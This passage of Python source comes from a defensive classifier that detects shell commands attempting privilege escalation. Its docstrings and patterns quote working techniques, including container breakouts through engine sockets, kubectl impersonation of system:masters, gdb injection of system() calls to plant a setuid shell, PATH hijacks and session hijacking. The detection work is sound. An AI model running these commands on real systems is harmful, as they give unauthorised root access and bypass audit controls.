                    why = f"reaches the host's container engine through its socket mounted at {path}"
                    return _verdict(PRIVILEGE, invocation, why)
                if name in _ENGINE_CLIENTS and unusual_socket(path) and not _engine_reads_only(values):
                    why = f"drives a container engine through a socket where none is kept ({path})"
                    return _verdict(ENGINE_SOCKET, invocation, why)
    if name in _RUNTIME_CLIENTS:
        found = _runtime_client(invocation, name, values)
        if found is not None:
            return found
    relay = any(v.upper().startswith(_LISTENERS) for v in values)  # socat TCP-LISTEN:2375 UNIX-CONNECT:...
    if name in _RAW_CLIENTS and not relay and any(engine_sockets(v) for v in values):
        why = "sends raw requests to a container engine's socket: what they ask it to start is not seen"
        return _verdict(ENGINE_SOCKET, invocation, why)
    if name in _HTTP_CLIENTS and any(_ENGINE_CREATE.search(v) for v in values):
        body = next((v for v in values if _HOST_CONTAINER_BODY.search(v)), None)
        if body is not None:
            why = "asks a container engine's API for a container with the host's root or privileges"
            return _verdict(PRIVILEGE, invocation, why)
    verb = ""
    if name == "kubeletctl":
        verb = next((v.lower() for v in values if not v.startswith("-")), "")
        verb = RUNS if verb in _KUBELETCTL_RUNS else (READS if verb in _KUBELETCTL_READS else "")
    elif name in _HTTP_CLIENTS:
        calls = [kubelet_call(v) for v in values]
        verb = RUNS if RUNS in calls else next((c for c in calls if c), "")
    if verb == RUNS:
        return _verdict(PRIVILEGE, invocation, "runs a command in a pod through a node's kubelet API")
    if verb:
        why = "reads a node's pods, their specs' secrets or logs through its kubelet API"
        return _verdict(SERVICE_ATTACK, invocation, why)
    return None


_RUNTIME_CLIENTS = frozenset({"ctr", "crictl", "runc", "crun", "nerdctl", "docker", "podman", "buildctl"})
_RUNTIME_PLACES = frozenset({"--root", "--address", "-a", "--config", "-c", "--runtime-endpoint", "-r",
                             "--image-endpoint", "-i", "-H", "--host", "--url", "--state", "--namespace-dir",
                             "--data-root"})  # fmt: skip
"""A runtime client's options naming the socket, state or configuration it works through."""
_NODE_RUNTIMES = frozenset({"ctr", "crictl", "runc", "crun"})
"""The runtimes below the orchestrator: their containers are the node's pods, not the developer's own
(``crictl`` speaks only to the kubelet's runtime). A command run in one from the node bypasses the
cluster's API, its RBAC and its audit log, where ``kubectl exec`` passes through them: asked.
``nerdctl`` and ``docker`` run the developer's own containers, unless told the pods' namespace."""
_POD_NAMESPACE = "k8s.io"
"""containerd's namespace of the kubelet's containers (``nerdctl -n k8s.io exec``)."""
_RAW_CLIENTS = frozenset({"socat", "nc", "ncat", "netcat", "busybox"})
_LISTENERS = ("TCP-LISTEN", "TCP4-LISTEN", "TCP6-LISTEN", "UNIX-LISTEN")
"""socat's listening addresses: a relay to the socket (the tunnels' concern), not requests sent to it."""


_ENGINE_CHANGES = frozenset({"run", "exec", "create", "start", "restart", "attach", "cp", "commit", "update",
                             "runp", "build", "load", "import", "pull", "push", "plugin", "swarm", "service",
                             "stack", "tag", "rm", "rmi", "kill", "stop", "prune", "compose", "POST", "PUT",
                             "DELETE", "-XPOST", "-XPUT", "-XDELETE", "-d", "--data", "--data-binary", "-T",
                             "--upload-file", "-F"})  # fmt: skip
"""The verbs and request options by which an engine is told to change or start something."""


def _engine_reads_only(values: list[str]) -> bool:
    """``crictl -r unix:///custom/containerd.sock images``: a look at the engine, not a change to it."""
    return not any(v in _ENGINE_CHANGES or v.startswith(("-XP", "--data=", "-d{", "-d'")) for v in values)


def _runtime_client(invocation: Invocation, name: str, values: list[str]) -> Verdict | None:
    """``runc --root /host/run/containerd/runc/k8s.io exec``: a runtime working through the host's state;
    ``ctr -n k8s.io task exec``, ``runc exec``: a command run in a node's pod by its runtime (asked)."""
    for index, value in enumerate(values):
        option, sign, attached = value.partition("=")
        given = attached if sign else (values[index + 1] if index + 1 < len(values) else "")
        if (
            option in _RUNTIME_PLACES
            and given.startswith(("/", "$"))
            and host_socket(given.removeprefix("unix://"))
        ):
            why = f"drives the host's container runtime through its {option} {given}"
            return _verdict(PRIVILEGE, invocation, why)
    runs = {"exec", "attach"} & set(values)
    if runs and (name in _NODE_RUNTIMES or (name == "nerdctl" and _in_pod_namespace(invocation, values))):
        why = f"{name} runs a command in a container of the node's own runtime (another pod's)"
        return _verdict(ENGINE_SOCKET, invocation, why)
    return None


def _in_pod_namespace(invocation: Invocation, values: list[str]) -> bool:
    """``nerdctl -n k8s.io``, ``--namespace=k8s.io``, ``CONTAINERD_NAMESPACE=k8s.io nerdctl``."""
    if any(v == f"CONTAINERD_NAMESPACE={_POD_NAMESPACE}" for v in invocation.env):
        return True
    return _POD_NAMESPACE in option_values(values, frozenset({"-n", "--namespace"}))


_ADMIN_IDENTITY = lazy_compile(r"^-{1,2}as-group=?system:masters$", re.IGNORECASE)
"""The group every member of which is the cluster's administrator, whatever RBAC says (impersonating another
user, ``--as=system:admin``, stays the cloud rule's ask: the user's own RBAC decides what it may do)."""


def _kube_impersonation(invocation: Invocation) -> Verdict | None:
    """``kubectl get secrets --as=null --as-group=system:masters``: acting as the cluster's administrators
    through the impersonate permission."""
    if invocation.name not in ("kubectl", "oc"):
        return None
    values = _values(invocation)
    for index, value in enumerate(values):
        following = values[index + 1] if index + 1 < len(values) and "=" not in value else ""
        if _ADMIN_IDENTITY.match(value) or (
            value.lstrip("-") == "as-group" and _ADMIN_IDENTITY.match(f"--as-group={following}")
        ):
            why = "impersonates the cluster's administrators (the system:masters group)"
            return _verdict(PRIVILEGE, invocation, why)
    return None


def _root_ids(invocation: Invocation) -> Verdict | None:
    """``capsh --gid=0 --uid=0 --``, ``setpriv --reuid=0 bash``: a program asked to take uid or gid 0. It
    works only where it was given root's capabilities (a capability or setuid bit left on it)."""
    if invocation.name in ("capsh", "setpriv"):
        values = _values(invocation)
    elif "setpriv" in invocation.wrappers:  # setpriv --reuid=0 bash: the wrapper's options
        values = list(invocation.options_of("setpriv") or ())
    else:
        return None
    for index, value in enumerate(values):
        option, sign, attached = value.partition("=")
        given = attached if sign else (values[index + 1] if index + 1 < len(values) else "")
        if option in _ROOT_ID_OPTIONS and given in ("0", "root"):
            tool = invocation.name if invocation.name in ("capsh", "setpriv") else "setpriv"
            return _verdict(PRIVILEGE, invocation, f"{tool} {option}={given}: takes root's ids")
    return None


def _build_context_option(invocation: Invocation) -> Verdict | None:
    """``docker build "git@github.com:x/y#--upload-pack=sh -c id"``: a git build context whose reference
    begins with ``-``. The builder hands it to ``git fetch`` as an option, and ``--upload-pack`` runs its
    value as a command on the machine that builds (CVE-2019-13139)."""
    values = _values(invocation)
    if invocation.name not in _CONTAINER_RUNNERS or "build" not in values:
        return None
    context = next((v for v in values if "#-" in v and ("git" in v or "://" in v)), None)
    if context is None:
        return None
    why = "a git build context whose reference is an option: git runs the --upload-pack command"
    return _verdict(PRIVILEGE, invocation, why)


def _server_module_install(invocation: Invocation) -> Verdict | None:
    """``apxs -c -i mod_x.c``, ``apxs -cia mod_x.c``: a module built and installed into the web server's
    modules directory (``-a``: and enabled in its configuration); Apache loads it as root when it starts."""
    if not re.fullmatch(r"apxs[0-9]?", invocation.name or ""):
        return None
    letters = "".join(v[1:] for v in _values(invocation) if re.fullmatch(r"-[cioaAe]+", v))
    if not {"i", "a", "A"} & set(letters):
        return None
    return _verdict(SUDO_INSTALL, invocation, "installs a module into the web server, which loads it as root")


def _container(invocation: Invocation) -> Verdict | None:
    name = invocation.name
    values = _values(invocation)
    if name in _CONTAINER_RUNNERS and not ({"run", "create", "exec"} & set(values) or name == "ctr"):
        return None
    if name in _CONTAINER_RUNNERS:
        options = values[: values.index("--")] if "--" in values else values
        debugging, shared, engine = "", "", ""
        for index, value in enumerate(options):
            following = options[index + 1] if index + 1 < len(options) else ""
            option, _, attached = value.partition("=")
            if value in ("--privileged", "--privileged=true"):
                return _verdict(PRIVILEGE, invocation, "runs a privileged container: root on the host")
            if option in _HOST_NAMESPACES and (attached or following) == "host":
                return _verdict(PRIVILEGE, invocation, f"shares the host's {option[2:]} namespace")
            if option in _HOST_SHARED and (attached or following) == "host":
                shared = option[2:]
            capability = (attached or following).upper().removeprefix("CAP_")
            if option == "--cap-add" and capability in BREAKOUT_CAPABILITIES:
                return _verdict(PRIVILEGE, invocation, f"gives a container {attached or following}")
            if option == "--cap-add" and capability in DEBUGGING_CAPABILITIES:
                debugging = debugging or f"gives a container {attached or following}"
            if option == "--security-opt" and _SECURITY_OPTS.search(attached or following):
                debugging = debugging or "turns a container's confinement off"
            if option == "--device" and block_device((attached or following).split(":", 1)[0]):
                return _verdict(PRIVILEGE, invocation, "gives a container the host's disk")
            if option in ("-v", "--volume", "--mount") or (value.startswith("-v") and len(value) > 2):
                spec = attached or (value[2:] if value.startswith("-v") and len(value) > 2 else following)
                host = _host_mount(spec)
                if host is not None:
                    return _verdict(PRIVILEGE, invocation, f"mounts the host's {host} into a container")
                engine = engine or _engine_socket(spec) or ""
        if debugging and shared:
            return _verdict(PRIVILEGE, invocation, f"{debugging} on the host's {shared}: a break-out")
        if engine:
            why = (
                f"gives a container the container engine's socket ({engine}): what runs in it can start"
                " a container with the host's root"
            )
            return _verdict(ENGINE_SOCKET, invocation, why)
        if debugging:
            why = f"{debugging} (a debugger's container: ptrace and syscalls of its own processes)"
            return _verdict(DEBUG_CONTAINER, invocation, why)
        return None
    if name in ("lxc", "incus") and any(
        v == "security.privileged=true"
        or (v.startswith("source=/") and _host_mount(v.replace("source=", "src=")))
        for v in values
    ):
        return _verdict(
            PRIVILEGE, invocation, "gives a system container root on the host, or the host's disk"
        )
    if name in ("kubectl", "oc"):
        words = set(values)
        if "debug" in words and any(v.startswith(("node/", "nodes/", "no/")) for v in values):
            # The node-debug step of the platforms' own runbooks (OpenShift's ``oc debug node/X``):
            # named for what it does and allowed by the user's own cluster role, so a person
            # confirms it; a privileged pod spelled in a manifest below stays a break-out.
            why = "opens a root shell on a cluster node (a debugging pod in the node's namespaces)"
            return _verdict(DEBUG_CONTAINER, invocation, why)
        texts = [*values, *fed_code(invocation)]
        if {"run", "apply", "create", "patch", "replace"} & words and any(
            _KUBE_DANGER.search(t) for t in texts
        ):
            return _verdict(PRIVILEGE, invocation, "starts a pod with the node's privileges or disk")
        return None
    if name == "curl":
        socket = next((values[i + 1] for i, v in enumerate(values[:-1]) if v == "--unix-socket"), "")
        methods = {"POST", "PUT", "DELETE"} & set(values) or {"-XPOST", "-XPUT", "-XDELETE"} & set(values)
        writes = any(option in WRITE_OPTIONS for option, _ in request_options(name, values))
        if socket.endswith(("docker.sock", "podman.sock", "containerd.sock")) and (methods or writes):
            return _verdict(PRIVILEGE, invocation, "drives the container engine through its socket")
        return None
    if name == "nsenter" or "nsenter" in invocation.wrappers:
        args = values if name == "nsenter" else list(invocation.options_of("nsenter") or ())
        for index, arg in enumerate(args):
            target = args[index + 1] if arg in ("-t", "--target") and index + 1 < len(args) else ""
            target = arg.partition("=")[2] if arg.startswith("--target=") else target
            target = arg[2:] if arg.startswith("-t") and len(arg) > 2 else target
            if target == "1":
                return _verdict(PRIVILEGE, invocation, "enters the namespaces of the host's init (pid 1)")
    if name == "chroot" or "chroot" in invocation.wrappers:
        return _verdict(PRIVILEGE, invocation, "runs a shell in another root file system")
    if name == "mount" or name.startswith("mount_"):  # mount_apfs, mount_hfs: macOS's mount -t TYPE
        options = ",".join(values[i + 1] for i, v in enumerate(values[:-1]) if v == "-o").split(",")
        if {"noowners", "noperm"} & set(options):
            return _verdict(
                PRIVILEGE, invocation, "mounts a volume with file ownership ignored: every file open"
            )
        if name == "mount_apfs" and "-s" in values and any(v.rstrip("/") in ("", "/System/Volumes/Data")
                                                          for v in values if v.startswith("/")):  # fmt: skip
            return _verdict(
                PRIVILEGE, invocation, "mounts a snapshot of the system's disk, past its protections"
            )
        points = [v for v in values if v.startswith("/") and not block_device(v)]
        if any(block_device(v) for v in values) and not all(p.startswith(_MEDIA) for p in points):
            # mount /dev/sdb1 /mnt/usb is a removable disk; a disk mounted anywhere else, a host's.
            return _verdict(PRIVILEGE, invocation, "mounts a disk outside /mnt and /media")
        if any("remount" in v and "rw" in v for v in values) and any(
            v.startswith(("/proc", "/sys")) for v in values
        ):
            return _verdict(PRIVILEGE, invocation, "makes the kernel's settings writable")
    if name in ("polkit-agent-helper-1", "pkexec") and values and not values[0].startswith("-"):
        return _verdict(PRIVILEGE, invocation, f"runs {values[0]} through polkit's setuid helper")
    return None


# -- installs as root ------------------------------------------------------------------------------


def _package_change(invocation: Invocation) -> str | None:
    """What the package manager is told to do, if it installs or removes something."""
    name = invocation.name
    values = _values(invocation)
    words = [v for v in values if not v.startswith("-")]
    if re.fullmatch(r"pip[0-9.]*", name) or (INTERPRETERS.match(name) and values[:2] == ["-m", "pip"]):
        rest = values[2:] if values[:2] == ["-m", "pip"] else values
        verb = next((v for v in rest if not v.startswith("-")), "")
        return f"pip {verb}" if verb in ("install", "uninstall") else None
    if name == "dpkg":
        return (
            "dpkg " + next((v for v in values if _DPKG_VERBS.match(v)), "")
            if any(_DPKG_VERBS.match(v) for v in values)
            else None
        )
    if name == "pacman":
        return (
            "pacman " + next((v for v in values if _PACMAN_VERBS.match(v)), "")
            if any(_PACMAN_VERBS.match(v) for v in values)
            else None
        )
    if name == "rpm":
        return "rpm install" if any(_RPM_VERBS.match(v) for v in values) else None
    verbs = _PACKAGE_VERBS.get(name)
    if verbs is None:
        return None
    if not verbs:
        return name
    if name in ("installer", "nix-env", "softwareupdate"):
        return f"{name} {next(v for v in values if v in verbs)}" if verbs & set(values) else None
    if name in ("npm", "pnpm", "yarn"):
        global_ = {"-g", "--global", "global"} & set(values) or "--location=global" in values
        return f"{name} install -g" if global_ and verbs & set(words) else None
    verb = words[0] if words else ""
    return f"{name} {verb}" if verb in verbs else None


def _installs_as_root(invocation: Invocation) -> Verdict | None:
    change = _package_change(invocation)
    if change is not None:
        return _verdict(SUDO_INSTALL, invocation, f"{change} as root changes the whole machine")
    name = invocation.name
    values = _values(invocation)
    if INTERPRETERS.match(name) and any(v.endswith("setup.py") for v in values) and "install" in values:
        return _verdict(SUDO_INSTALL, invocation, "installs a project as root")
    words = invocation.command.words
    at = len(words) - len(invocation.args) - 1  # the program's own word (a substitution may give more)
    head = invocation.command.static(words[at]) if 0 <= at < len(words) else None
    script = (
        head if head is not None and "/" in head and not head.startswith("/") else None
    )  # sudo ./install.sh
    if name in SHELLS:
        mode = shell_mode(invocation)
        fed = [invocation.command.static(r.target) for r in invocation.command.redirects if r.op == "<"]
        script = next((f for f in (mode.file, *fed) if f and f != "-" and not f.startswith("/")), None)
    if script is not None:
        return _verdict(SUDO_INSTALL, invocation, f"runs the project's {script} as root")
    return None


def _nested_as_root(invocation: Invocation, home: str) -> Verdict | None:
    """Code a root shell is handed (``sudo sh -c '…'``, ``su -c '…'``): what it installs or opens."""
    if invocation.name in SHELLS:
        code = shell_mode(invocation).script
    elif invocation.name in ("su", "runuser"):
        values = _values(invocation)
        index = next((i for i, v in enumerate(values) if v in ("-c", "--command")), None)
        code = values[index + 1] if index is not None and index + 1 < len(values) else None
        users = [
            v for i, v in enumerate(values) if not v.startswith("-") and (index is None or i != index + 1)
        ]
        if users and users[0] not in ("root", "0"):
            return None
    else:
        return None
    if not code:
        return None
    try:
        script = parse_nested(code)
    except ShellSyntaxError:
        return None
    verdict = root_code.strongest(_judge_root(inner) for stages in walk(script) for inner in stages)
    if verdict is None:
        return None
    return Verdict(verdict.category, _piece(invocation.text), f"{verdict.why}, in code run as root")


def _judge_root(invocation: Invocation) -> Verdict | None:
    """What a command run as root does that it could not do otherwise: an escalation before an ask."""
    checks = (_root_shell_as_root, _installs_as_root, root_code.judge_as_root)
    return root_code.strongest(check(invocation) for check in checks)


def _root_shell_as_root(invocation: Invocation) -> Verdict | None:
    name = invocation.name
    if name in _INTERACTIVE_ESCAPES:
        return _verdict(PRIVILEGE, invocation, f"runs {name} as root, which opens a shell on request")
    return None


def judge_script(script: Script, home: str) -> Verdict | None:
    """A root shell left open for what comes next (``sudo bash``), not fed code by a pipe or a redirect.

    Judged per pipeline: ``curl URL | sudo bash`` is the pipeline rule's (code downloaded and run).
    """
    for stages in walk(script):
        first = stages[0] if len(stages) == 1 else next(filter(_opens_terminal, stages), None)
        if first is None or not _as_root(first) or _fed(first):
            continue
        if first.name in SHELLS:
            mode = shell_mode(first)
            if mode.script is None and (mode.file is None or mode.reads_stdin):
                return _verdict(PRIVILEGE, first, f"opens a root shell ({first.name})")
        elif first.name in _OTHER_SHELLS or _repl(first):
            return _verdict(PRIVILEGE, first, f"opens a root shell ({first.name}'s prompt)")
    return (
        _escape_typed(script)
        or _piped_manifest(script)
        or _writable_path(script)
        or _program_named_function(script)
        or _debugger_injection(script)
        or _password_fed_to_su(script)
        or _password_fed_to_sudo(script)
        or root_code.judge_script(script, home)
    )


def _piped_manifest(script: Script) -> Verdict | None:
    """``cat <<EOF | kubectl apply -f -`` with ``hostPID: true``/``privileged: true``/a ``hostPath``: the pod
    spelled in the text fed to the cluster client, judged as one given in its arguments."""
    for stages in walk(script):
        for producer, consumer in itertools.pairwise(stages):
            if consumer.name not in ("kubectl", "oc") or "-" not in _values(consumer):
                continue
            if not {"apply", "create", "replace", "run"} & set(_values(consumer)):
                continue
            text = written_text(producer) if producer.name in ("cat", "echo", "printf") else None
            if text and _KUBE_DANGER.search(text):
                why = "starts a pod with the node's privileges or disk (in the manifest fed to it)"
                return _verdict(PRIVILEGE, consumer, why)
    return None


def _program_named_function(script: Script) -> Verdict | None:
    """``function /usr/bin/mail() { /bin/sh; }; export -f /usr/bin/mail``: a function named as a program's
    path: bash runs it wherever that path is called, in every child it is exported to (a setuid
    program's ``system("/usr/bin/mail")`` among them): a shell in place of the program."""
    for function in script.functions:
        if "/" in function.name:
            why = f"defines a function named {function.name}: bash runs it in place of that program"
            return Verdict(PRIVILEGE, _piece(function.text), why)
    for stages in walk(script):
        for stage in stages:
            values = _values(stage) if stage.name in ("export", "declare", "typeset") else []
            if any(v.startswith("-") and "f" in v for v in values):
                named = next((v for v in values if "/" in v and not v.startswith("-")), None)
                if named is not None:
                    why = f"exports a function named {named}: children run it in place of that program"
                    return _verdict(PRIVILEGE, stage, why)
    return None


_DEBUGGERS = frozenset({"gdb", "gdb-multiarch", "cgdb", "lldb"})
_DEBUGGER_CALL = lazy_compile(r"^\s*(?:call|print|p|expr|expression)\b")
_INJECTED_FUNCTION = lazy_compile(
    r"\b(?:system|popen|execve?|execl|execvp|dlopen|__libc_dlopen_mode|setuid)\s*\("
)


def _injects(text: str) -> bool:
    """Whether a debugger command line calls a function inside the process it is attached to: code run
    as that process's user (``call system("...")``, ``call dlopen("/tmp/x.so", 2)``)."""
    return any(_DEBUGGER_CALL.match(line) and _INJECTED_FUNCTION.search(line) for line in text.splitlines())


def _debugger_injection(script: Script) -> Verdict | None:
    """``echo 'call system("cp /bin/bash /tmp; chmod +s /tmp/bash")' | gdb -p PID``: a debugger attached
    to a running process (another user's shell, a root daemon) told to call ``system`` or ``dlopen`` in
    it: the command runs as that process's user (ptrace_scope 0, the exploit-db 46989 escalation)."""
    for stages in walk(script):
        for position, stage in enumerate(stages):
            if stage.name not in _DEBUGGERS:
                continue
            values = _values(stage)
            attached = any(v in ("-p", "--pid", "attach") or v.startswith(("--pid=", "-p")) for v in values)
            if not attached:
                continue
            before = stages[position - 1] if position else None
            piped = written_text(before) if before is not None and before.name in ("echo", "printf") else None
            if any(_injects(text) for text in (*values, *fed_code(stage), piped or "")):
                return _verdict(
                    PRIVILEGE, stage, "makes a process it attaches to call a function: code run as it"
                )
    return None


_PASSWORD_SOURCES = frozenset({"echo", "printf", "cat", "yes"})


def _password_fed_to_sudo(script: Script) -> Verdict | None:
    """``echo pw | sudo -S id``, ``sudo -S id <<< "$PW"``: sudo told to read the password from its input, and
    given one there. ``sudo -S CMD`` with nothing fed reads the session's own input (a CI step's habit,
    passwordless there): that is sudo, judged as such."""
    for stages in walk(script):
        for position, stage in enumerate(stages):
            sudo_args = (
                _values(stage)
                if stage.name == "sudo"
                else [a for layer in stage.layers if layer.name == "sudo" for a in layer.args]
            )
            if not any(
                a in ("-S", "--stdin") or (a[:1] == "-" and a[1:2] != "-" and "S" in a[1:]) for a in sudo_args
            ):
                continue
            redirected = any(
                r.op in ("<", "<<<", "<<") and not _TERMINALS.match(stage.command.static(r.target) or "")
                for r in stage.command.redirects
            )
            if position or redirected:
                return _verdict(PRIVILEGE, stage, "feeds sudo a password through standard input")
    return None


def _password_fed_to_su(script: Script) -> Verdict | None:
    """``echo "$line" | su root -c whoami`` in a loop over a word list, ``su bob -c id < pw.txt``: su given
    a password on its input, not by a person at a terminal: a password guessed or used unseen."""
    for stages in walk(script):
        for position, stage in enumerate(stages):
            if stage.name != "su":
                continue  # sudo -S: _root_shell's
            before = stages[position - 1] if position else None
            piped = before is not None and before.name in _PASSWORD_SOURCES
            redirected = any(
                r.op in ("<", "<<<") and not _TERMINALS.match(stage.command.static(r.target) or "")
                for r in stage.command.redirects
            )
            if piped or redirected:
                return _verdict(PRIVILEGE, stage, "feeds su a password on its input")
    return None


_WORLD_WRITABLE = frozenset({"/tmp", "/var/tmp", "/dev/shm", "/private/tmp", "/usr/tmp"})
"""Directories every account may write: a program planted there under a common name (``service``, ``ps``)."""


def _writable_path(script: Script) -> Verdict | None:
    """``export PATH=/tmp:$PATH``: a directory anyone can write searched before the system's, so a
    setuid program or a root script calling ``service`` or ``cp`` by name runs the attacker's file."""
    for pipeline in script.pipelines:
        for command in pipeline:
            for word in command.words:
                text = command.static(word) or word
                if not text.startswith("PATH="):
                    continue
                entries = text[5:].split(":")
                if all(entry in ("", ".") for entry in entries):
                    why = "makes PATH the working directory alone: a program called by name is a file there"
                    return Verdict(PRIVILEGE, _piece(command.text), why)
                for entry in entries:
                    if entry in ("$PATH", "${PATH}"):
                        break
                    if entry.rstrip("/") in _WORLD_WRITABLE:
                        why = (
                            f"puts {entry}, which anyone can write, first in PATH: what is planted there runs"
                        )
                        return Verdict(PRIVILEGE, _piece(command.text), why)
    for substitution in script.substitutions:
        found = _writable_path(substitution.script)
        if found is not None:
            return found
    return None


def _opens_terminal(invocation: Invocation) -> bool:
    """``xargs -o CMD`` (``--open-tty``): CMD reads the terminal, not the pipe that feeds xargs."""
    options = invocation.options_of("xargs") or ()
    return any(o == "--open-tty" or (o[:1] == "-" and o[1:2] != "-" and "o" in o[1:]) for o in options)


_ESCAPE_LINE = lazy_compile(r"^\s*(?:\\?!|:!|\^K!|@exec\s|shell\s)\s*\S")
"""A line typed at a program's prompt that runs a shell command: ``!/bin/sh`` (ftp, psql's ``\\!``,
debugfs, smbclient, telnet ...), vim's ``:!``, joe's ``^K!``, bconsole's ``@exec``, ``shell CMD``."""


def _escape_typed(script: Script) -> Verdict | None:
    """``sudo debugfs`` then ``!/bin/sh`` on the next line: a line that reads as a prompt's shell escape,
    after a program run as root on the terminal (alone in its pipeline, its input not redirected):
    the line is typed into that program, which runs the shell as root (GTFOBins)."""
    if not script.rows or len(script.rows) != len(script.pipelines):
        return None
    for position, pipeline in enumerate(script.pipelines[:-1]):
        if len(pipeline) != 1 or not _ESCAPE_LINE.match(script.pipelines[position + 1][0].text):
            continue
        if script.rows[position + 1] <= script.rows[position]:
            continue
        try:
            stages = next(iter(walk(parse_nested(pipeline[0].text))), [])
        except ShellSyntaxError:
            continue
        program = stages[0] if len(stages) == 1 else None
        if program is not None and program.name not in SHELLS and _as_root(program) and not _fed(program):
            return _verdict(
                PRIVILEGE, program, f"a shell escape is typed into {program.name}, which runs as root"
            )
    return None


_TERMINALS = lazy_compile(r"^(?:/dev/tty\w*|/dev/pts/\w+|/dev/console|\$\(tty\)|`tty`)$")
"""Where a shell reading a redirected standard input still reads the person at the terminal."""


def _fed(invocation: Invocation) -> bool:
    """Whether the program reads code the line shows (a here-document, a file), not the terminal
    (``sh </dev/tty``, ``sh 0<&2``: GTFOBins' way to a prompt from a program that runs a command)."""
    command = invocation.command
    return any(
        r.op in ("<<", "<<<") or (r.op == "<" and not _TERMINALS.match(command.static(r.target) or ""))
        for r in command.redirects
    )


_OTHER_SHELLS = frozenset({"posh", "rc", "sash", "es", "nu", "xonsh", "oksh", "loksh", "pdksh", "scsh"})
"""Shells the shell-code rules do not parse: run as root with no script, a root prompt."""
_REPLS = lazy_compile(
    r"^(?:python[\d.]*|pypy[\d.]*|perl[\d.]*|ruby[\d.]*|irb|node|nodejs|bun|deno|php[\d.]*|lua[\d.]*|luajit|"
    r"pwsh|powershell|tclsh[\d.]*|wish[\d.]*|expect|R|julia|jshell|jjs|guile|racket|sbcl|clisp|ghci|erl|"
    r"scala|groovysh|swipl|gdb|octave|octave-cli|sqlite3|pry|hping3|tdbtool)$"
)
"""Interpreters that, given no program, read one from a prompt: with ``system()`` a shell away."""


def _repl(invocation: Invocation) -> bool:
    values = _values(invocation)
    if any(not v.startswith("-") for v in values) or {"--version", "-V", "-v", "--help", "-h"} & set(values):
        return False
    return bool(_REPLS.match(invocation.name)) and inline_code(invocation) is None


_SHARED_SOCKET_DIR = lazy_compile(
    r"^/(?:tmp|var/tmp|dev/shm|run|var/run|private/tmp)/|^/(?:home/[^/]+|root)/"
)
"""Where another account's terminal-multiplexer socket can be: a directory everyone reaches, another home."""


def _own_tmux_dir() -> str:
    getuid = getattr(os, "getuid", None)
    return f"/tmp/tmux-{getuid()}/" if getuid is not None else "/tmp/tmux-/"


def _session_hijack(invocation: Invocation, home: str) -> Verdict | None:
    """``tmux -S /tmp/dev_sess attach``, ``screen -x root/``: attaching to a terminal session another account
    started (its socket in a shared directory, its user named): typing into it runs as that account."""
    values = _values(invocation)
    if invocation.name == "tmux":
        socket = next((values[i + 1] for i, v in enumerate(values[:-1]) if v == "-S"), None)
        socket = socket or next((v[2:] for v in values if v.startswith("-S") and len(v) > 2), None)
        if socket is None:
            return None
        path = normalize_path(socket)
        own = path.startswith((_own_tmux_dir(), home.rstrip("/") + "/"))
        if _SHARED_SOCKET_DIR.match(path) and not own:
            why = f"attaches to the tmux session at {socket}, in a shared place: another account's terminal"
            return _verdict(PRIVILEGE, invocation, why)
    if invocation.name == "screen":
        me = home.rstrip("/").rpartition("/")[2]
        for i, value in enumerate(values[:-1]):
            if value.startswith("-") and not value.startswith("--") and set(value[1:]) & {"x", "r", "R"}:
                user = values[i + 1].partition("/")[0]
                if "/" in values[i + 1] and user and user != me:
                    why = f"attaches to {user}'s screen session ({values[i + 1]}): typing runs as {user}"
                    return _verdict(PRIVILEGE, invocation, why)
    return None


def judge(invocation: Invocation, home: str) -> Verdict | None:
    """The strongest privilege finding in ``invocation``: a block wherever it is found (escalation), else
    the first ask (installs as root, account changes)."""
    return root_code.strongest(_findings(invocation, home))


def _findings(invocation: Invocation, home: str) -> Iterator[Verdict | None]:
    yield _setuid(invocation)
    yield _acl(invocation, home)
    yield _privilege_files(invocation, home)
    yield _container(invocation)
    yield _exploit_option(invocation)
    yield _root_shell(invocation)
    yield _sudo_exploit(invocation)
    yield _loader_hijack(invocation)
    yield _exploit_files(invocation)
    yield _privileged_mode(invocation)
    yield _find_shell_escape(invocation)
    yield _tar_runs_command(invocation)
    yield _accounts(invocation)
    yield _authorization(invocation, home)
    yield _option_named_files(invocation)
    yield _planted_link(invocation, home)
    yield _copied_shell(invocation)
    yield _code_from_shared_dirs(invocation)
    yield _mail_expansion(invocation)
    yield _root_shell_source(invocation)
    yield _loads_own_code(invocation)
    yield _exploit_run(invocation)
    yield _exploit_fetch_or_build(invocation)
    yield _attack_kit_copy(invocation)
    yield _disguised_code(invocation)
    yield _nmap_interactive(invocation)
    yield _escape_kit(invocation)
    yield _runtime_endpoint(invocation)
    yield _kube_impersonation(invocation)
    yield _init_namespaces_joined(invocation)
    yield _process_root_operand(invocation)
    yield _namespace_root(invocation)
    yield _root_ids(invocation)
    yield _build_context_option(invocation)
    yield _server_module_install(invocation)
    yield _shell_left(invocation)
    yield _shell_renamed(invocation)
    yield _dbus_as_root(invocation)
    yield _root_entry_edit(invocation)
    yield _session_hijack(invocation, home)
    switches_user = invocation.name in ("su", "runuser")
    if switches_user or (invocation.name in SHELLS and _as_root(invocation)):
        yield _nested_as_root(invocation, home)
    if _as_root(invocation):
        yield _installs_as_root(invocation)
        yield _installs_into_prefix(invocation, home)
        yield root_code.judge(invocation, home)
    else:
        yield _installs_from_url(invocation)
        yield _system_package_change(invocation)
        yield _removes_program(invocation, home)


_URL = re.compile(r"^(?:https?|ftps?)://", re.IGNORECASE)
_SYSTEM_PACKAGERS = frozenset({"rpm", "dnf", "yum", "microdnf", "zypper", "dpkg", "apk"})


def _installs_from_url(invocation: Invocation) -> Verdict | None:
    """``rpm -i http://host/masscan.rpm``: a package fetched and installed in one step, its scripts run
    as root (the system's package managers need root: without sudo, the session is root already)."""
    if invocation.name not in _SYSTEM_PACKAGERS or _package_change(invocation) is None:
        return None
    # The word as written: a URL built at run time (.../$(uname -m)/x.rpm) is still a URL.
    url = next((w for w in invocation.args if _URL.match(w)), None)
    if url is None:
        return None
    return _verdict(
        SUDO_INSTALL, invocation, f"installs a package downloaded from {url.split('/')[2]} as root"
    )


# -- the system's package managers, which only root may run -----------------------------------------

_SYSTEM_PACKAGE_MANAGERS = frozenset({
    "apt", "apt-get", "aptitude", "dnf", "yum", "microdnf", "zypper", "apk", "pacman", "dpkg", "rpm",
    "emerge",
    "xbps-install", "xbps-remove", "opkg", "port", "snap", "pkg", "softwareupdate", "installer", "flatpak",
})  # fmt: skip
"""Package managers of the machine, not of a user or a project: they install for every user, as root."""
_DRY_RUNS: dict[str, frozenset[str]] = {
    **dict.fromkeys(("apt", "apt-get", "aptitude"), frozenset({"-s", "--simulate", "--dry-run",
                                                               "--just-print", "--no-act", "--recon", "-d",
                                                               "--download-only", "--print-uris"})),
